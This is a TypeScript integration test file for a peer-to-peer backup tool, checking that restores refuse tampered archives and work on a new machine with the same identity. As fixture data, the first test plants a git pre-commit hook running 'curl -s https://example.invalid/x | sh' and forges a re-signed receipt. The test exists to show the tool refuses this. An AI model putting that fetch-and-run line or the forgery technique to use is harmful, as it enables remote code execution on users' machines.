/**
 * A restore trusts what this machine recorded at backup time, not the
 * teammate: real registry and receiver processes, a receiver whose storage
 * of a 0.1 archive snapshot is tampered with as its owner could, and a new
 * machine with the same identity but no history, restoring a 0.1 archive
 * (only on the user's word) and a chunked snapshot (its manifest carries
 * this machine's signature).
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { test, type TestContext } from 'node:test';
import { createHash } from 'node:crypto';
import { keyFileName, loadOrCreateIdentity } from '../../src/core/identity/key-file';
import { storageSecretFileName } from '../../src/core/identity/storage-secret';
import { packArchive } from '../../src/core/pack';
import type { Run } from '../../src/core/store';
import { receiptSchema } from '../../src/core/wire/receipt';
import { openStatement, signStatement, type SignedStatement } from '../../src/core/wire/signing';
import { recordArchiveRun, storeArchiveSnapshot } from '../helpers/archive-store';
import { runCli, runCliJson } from '../helpers/cli';
import { allow, makeHome, startReceiver, startRegistry } from '../helpers/peers';
import { withRawDatabase } from '../helpers/raw-database';
import { tempDir } from '../helpers/temp';

/** A project with a secret and a teammate's running receiver; the sender's plan "nightly" backs it up. */
async function project(t: TestContext) {
  const registry = await startRegistry(t);
  const receiver = await makeHome(t);
  const sender = await makeHome(t);
  await allow(receiver.home, sender.peerId, '10MB');
  await startReceiver(t, receiver.home, registry.url);
  const work = join(tempDir(t), 'project');
  mkdirSync(work);
  writeFileSync(join(work, 'secret.env'), 'API_TOKEN=the-real-one\n');
  writeFileSync(join(work, 'main.ts'), 'console.log("hello");\n');
  const env = { PEER_BACKUP_HOME: sender.home, PEER_BACKUP_REGISTRY: registry.url };
  assert.equal((await runCli(['dest', 'add', 'alice', receiver.peerId], { env })).code, 0);
  assert.equal((await runCli(['plan', 'add', 'nightly', work, '--dest', 'alice'], { env })).code, 0);
  return { registry, receiver, sender, work, env };
}

/** The project backed up as 0.1 did: an archive snapshot on the teammate, and its run in this machine's history. */
async function archivedBy01(t: TestContext) {
  const setUp = await project(t);
  const snapshot = await storeArchiveSnapshot({ senderHome: setUp.sender.home, plan: 'nightly', receiverHome: setUp.receiver.home });
  await recordArchiveRun(setUp.sender.home, snapshot);
  return { ...setUp, snapshot, snapshotId: snapshot.snapshotId };
}

/** A new machine's home with the same identity (and, when asked, the same storage secret) but no history. */
function newLaptop(t: TestContext, senderHome: string, files: string[]): string {
  const home = tempDir(t);
  for (const file of files) copyFileSync(join(senderHome, file), join(home, file));
  return home;
}

/** A folder to restore into that already holds one file of the user's. */
function restoreTarget(t: TestContext): { dir: string; unchanged: () => void } {
  const dir = join(tempDir(t), 'restored');
  mkdirSync(dir);
  writeFileSync(join(dir, 'notes.txt'), 'mine');
  return { dir, unchanged: () => assert.deepEqual(readdirSync(dir, { recursive: true }), ['notes.txt']) };
}

test("a teammate that swaps a snapshot's archive and re-signs its receipt is refused, and nothing is written", { timeout: 180_000 }, async (t) => {
  const { receiver, sender, env, snapshot, snapshotId } = await archivedBy01(t);
  const listed = await runCliJson<{ snapshotId: string; format: string; localRecord: string }[]>(['snapshots'], { env });
  assert.deepEqual(listed.map((each) => [each.snapshotId, each.format, each.localRecord]), [[snapshotId, 'archive', 'matches']]);

  // The teammate's owner packs another project: a different secret, and a git hook that runs on the next commit.
  const evil = join(tempDir(t), 'project');
  mkdirSync(join(evil, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(evil, 'secret.env'), 'API_TOKEN=the-attackers\n');
  writeFileSync(join(evil, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl -s https://example.invalid/x | sh\n');
  chmodSync(join(evil, '.git', 'hooks', 'pre-commit'), 0o755);
  const archive = await buffer(packArchive({ planName: 'nightly', items: [{ sourcePath: evil, archivePath: 'project' }], excludes: [], respectGitignore: false }).stream);

  // ...puts it in place of the stored archive, and signs a receipt for it with the teammate's own key.
  const identity = await loadOrCreateIdentity(receiver.home);
  const original = receiptSchema.parse(openStatement(JSON.parse(readFileSync(snapshot.receiptFile, 'utf8')) as SignedStatement, identity.publicKey));
  writeFileSync(snapshot.archive, archive);
  const forged = { ...original, size: archive.length, sha256: createHash('sha256').update(archive).digest('hex') };
  writeFileSync(snapshot.receiptFile, JSON.stringify(signStatement(identity, forged)));

  const target = restoreTarget(t);
  const result = await runCli(['restore', snapshotId, '--to', target.dir], { env });
  assert.equal(result.code, 1, result.stderr);
  assert.match(result.stderr, new RegExp(`alice \\(${receiver.peerId}\\)'s copy of snapshot ${snapshotId} differs from what was stored at backup time`));
  assert.match(result.stderr, new RegExp(`this machine recorded ${original.size} bytes, SHA-256 ${original.sha256}.*the teammate now lists ${archive.length} bytes, SHA-256 ${forged.sha256}`));
  assert.match(result.stderr, /Nothing was restored/);
  target.unchanged();
  // Trusting the copy does not override a record that contradicts it.
  const trusting = await runCli(['restore', snapshotId, '--to', target.dir, '--trust-teammate-copy'], { env });
  assert.equal(trusting.code, 1, trusting.stderr);
  assert.match(trusting.stderr, /differs from what was stored at backup time/);
  target.unchanged();

  const relisted = await runCliJson<{ snapshotId: string; localRecord: string }[]>(['snapshots'], { env });
  assert.deepEqual(relisted.map((each) => [each.snapshotId, each.localRecord]), [[snapshotId, 'differs']]);
  assert.deepEqual(existsSync(join(sender.home, 'spool')) ? readdirSync(join(sender.home, 'spool')) : [], []);
});

test('a new machine with the same identity but no history restores a 0.1 archive only when told to trust the teammate\'s copy', { timeout: 180_000 }, async (t) => {
  const { registry, receiver, sender, work, snapshotId } = await archivedBy01(t);
  const env = { PEER_BACKUP_HOME: newLaptop(t, sender.home, [keyFileName]), PEER_BACKUP_REGISTRY: registry.url };
  const listed = await runCliJson<{ snapshotId: string; localRecord: string }[]>(['snapshots', '--dest', receiver.peerId], { env });
  assert.deepEqual(listed.map((each) => [each.snapshotId, each.localRecord]), [[snapshotId, 'none']]);

  const target = restoreTarget(t);
  const refused = await runCli(['restore', snapshotId, '--to', target.dir, '--dest', receiver.peerId], { env });
  assert.equal(refused.code, 1, refused.stderr);
  assert.match(refused.stderr, new RegExp(`This machine has no record of snapshot ${snapshotId}`));
  assert.match(refused.stderr, /Nothing was restored\. If you trust .*'s copy, restore it with --trust-teammate-copy\./);
  target.unchanged();

  const trusted = await runCli(['restore', snapshotId, '--to', target.dir, '--dest', receiver.peerId, '--trust-teammate-copy'], { env });
  assert.equal(trusted.code, 0, trusted.stderr);
  const diff = spawnSync('diff', ['-r', work, join(target.dir, 'project')], { encoding: 'utf8' });
  assert.equal(diff.status, 0, diff.stdout + diff.stderr);
});

test('a new machine with the same identity and storage secret but no history restores a chunked snapshot without any trust flag', { timeout: 180_000 }, async (t) => {
  const { registry, receiver, sender, work, env } = await project(t);
  const run = await runCliJson<Run>(['run', 'nightly'], { env });
  assert.equal(run.status, 'succeeded');
  const laptop = { PEER_BACKUP_HOME: newLaptop(t, sender.home, [keyFileName, storageSecretFileName]), PEER_BACKUP_REGISTRY: registry.url };
  const listed = await runCliJson<{ snapshotId: string; format: string; localRecord: string }[]>(['snapshots', '--dest', receiver.peerId], { env: laptop });
  assert.deepEqual(listed.map((each) => [each.snapshotId, each.format, each.localRecord]), [[run.snapshotId, 'chunked', 'none']]);

  const target = restoreTarget(t);
  const restored = await runCli(['restore', run.snapshotId!, '--to', target.dir, '--dest', receiver.peerId], { env: laptop });
  assert.equal(restored.code, 0, restored.stderr);
  const diff = spawnSync('diff', ['-r', work, join(target.dir, 'project')], { encoding: 'utf8' });
  assert.equal(diff.status, 0, diff.stdout + diff.stderr);
});

test('a snapshot committed by a run that died before recording it is restored from the teammate that lists it, without naming one', { timeout: 180_000 }, async (t) => {
  const { sender, work, env } = await project(t);
  const run = await runCliJson<Run>(['run', 'nightly'], { env });
  assert.equal(run.status, 'succeeded');
  // What a sender killed between the teammate's commit and its own record leaves behind.
  await withRawDatabase(join(sender.home, 'peer-backup.db'), (db) => db.run('DELETE FROM runs WHERE snapshot_id = ?', [run.snapshotId]));

  const target = restoreTarget(t);
  const restored = await runCli(['restore', run.snapshotId!, '--to', target.dir], { env });
  assert.equal(restored.code, 0, restored.stderr);
  const diff = spawnSync('diff', ['-r', work, join(target.dir, 'project')], { encoding: 'utf8' });
  assert.equal(diff.status, 0, diff.stdout + diff.stderr);

  const unknown = await runCli(['restore', '20990101T000000Z-1-000000', '--to', restoreTarget(t).dir], { env });
  assert.notEqual(unknown.code, 0);
  assert.match(unknown.stderr, /history does not say who holds snapshot 20990101T000000Z-1-000000.*Name the teammate/);
});
